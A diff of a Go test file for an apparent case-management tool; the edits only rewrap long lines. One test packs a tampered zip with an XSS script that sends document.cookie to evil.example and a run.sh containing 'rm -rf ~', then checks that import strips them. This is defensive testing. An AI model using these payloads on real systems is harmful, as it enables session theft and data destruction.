@@ -52,14 +52,16 @@ func repacked(t *testing.T, file string, more map[string]string) string {
 	return write(t, "evil.zip", b.String())
 }
 
-// An imported case has a page of our drawing: the stranger's, with its script, and files that the case does not name stay behind.
+// An imported case has a page of our drawing: the stranger's, with its script, and files that the case does not name
+// stay behind.
 func TestImportDrawsThePageAnew(t *testing.T) {
 	dir := t.TempDir()
 	id := oldCases(t, filepath.Join(dir, "sent"), 1, 24*100)[0]
 	casebook(t, dir, "case", "report", "--dir", "sent").want(t, 0, "report.html")
 	casebook(t, dir, "case", "export", "--dir", "sent", "-o", "incident.zip").want(t, 0, "incident.zip")
 	const script = "<script>fetch('http://evil.example/'+document.cookie)</script>"
-	evil := repacked(t, filepath.Join(dir, "incident.zip"), map[string]string{"report.html": script, "readme.html": script, "run.sh": "rm -rf ~"})
+	evil := repacked(t, filepath.Join(dir, "incident.zip"),
+		map[string]string{"report.html": script, "readme.html": script, "run.sh": "rm -rf ~"})
 	casebook(t, dir, "case", "import", "--dir", "got", evil).want(t, 0, "imported")
 	page := string(readAll(t, filepath.Join(dir, "got", id, "report.html")))
 	if strings.Contains(page, "evil.example") || !strings.Contains(page, id) {
@@ -98,6 +100,7 @@ func TestImportCountsAgainstRetention(t *testing.T) {
 		t.Fatalf("%d cases are left (%v)", len(list), err)
 	}
 	if list[0].ID != own[0] && list[1].ID != own[0] {
-		t.Errorf("the first case of here is gone for imported ones of long ago: %s and %s are left", list[0].ID, list[1].ID)
+		t.Errorf("the first case of here is gone for imported ones of long ago: %s and %s are left", list[0].ID,
+			list[1].ID)
 	}
 }
